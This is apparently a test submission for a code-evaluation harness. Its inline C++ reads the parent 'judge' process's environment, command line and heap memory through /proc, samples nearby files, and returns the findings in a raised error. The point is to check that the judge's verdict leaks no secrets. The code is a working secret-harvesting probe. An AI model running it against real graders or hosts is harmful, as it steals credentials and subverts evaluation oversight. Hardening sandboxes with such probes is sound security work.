# ruff: noqa
"""C++ reads what its judge holds: /proc/<ppid>/environ and cmdline, a megabyte of its heap through
/proc/<ppid>/mem (refused to a plain user by PR_SET_DUMPABLE 0, not to root), and every file in its working
directory and its parent (the spec, the result, the stderr file; names only two folders up), then raises with a
summary of what it got and the first bytes of each: the verdict must hold no secret."""

import torch
from torch.utils.cpp_extension import load_inline

_SRC = r"""
#include <torch/extension.h>
#include <cstdio>
#include <cstdlib>
#include <dirent.h>
#include <fcntl.h>
#include <fstream>
#include <sstream>
#include <unistd.h>
static std::string slurp(const std::string& path, size_t limit = 1 << 20) {
  std::ifstream in(path, std::ios::binary);
  std::string data(limit, '\0');
  in.read(&data[0], limit);
  data.resize(in.gcount());
  return data;
}
static std::string printable(const std::string& data, size_t limit = 80) {
  std::string out;
  for (char c : data.substr(0, limit)) out += (c >= 32 && c < 127) ? c : '.';
  return out;
}
std::string look() {
  std::string judge = "/proc/" + std::to_string(getppid());
  std::ostringstream said;
  std::string environ = slurp(judge + "/environ");
  said << "judge environ " << environ.size() << " bytes [" << printable(environ) << "]; ";
  said << "cmdline [" << printable(slurp(judge + "/cmdline")) << "]; ";
  std::ifstream maps(judge + "/maps");
  int mem = open((judge + "/mem").c_str(), O_RDONLY);
  size_t heap = 0;
  for (std::string line; mem >= 0 && std::getline(maps, line);) {
    if (line.find("[heap]") == std::string::npos) continue;
    unsigned long lo = std::strtoul(line.c_str(), nullptr, 16);
    std::string chunk(1 << 20, '\0');
    ssize_t got = pread(mem, &chunk[0], chunk.size(), (off_t)lo);
    heap = got > 0 ? got : 0;
  }
  said << "judge heap read: " << heap << " bytes (mem " << (mem >= 0 ? "opened" : "refused") << "); files:";
  if (mem >= 0) close(mem);
  const char* home = std::getenv("HOME");
  std::string folder = home ? home : ".";
  for (int up = 0; up < 3; up++, folder += "/..") {
    DIR* dir = opendir(folder.c_str());
    if (dir == nullptr) continue;
    int shown = 0;
    while (dirent* entry = readdir(dir)) {
      std::string name = entry->d_name;
      if (entry->d_type != DT_REG || ++shown > 8) continue;
      said << " " << name;  // two folders up is shared (/tmp): names only
      if (up < 2) said << " [" << printable(slurp(folder + "/" + name, 4096), 40) << "]";
    }
    closedir(dir);
  }
  return said.str();
}
"""
_ext = load_inline("native_read_judge_memory", cpp_sources=_SRC, functions=["look"], verbose=False)


def run(x: torch.Tensor) -> torch.Tensor:
    raise RuntimeError(_ext.look())
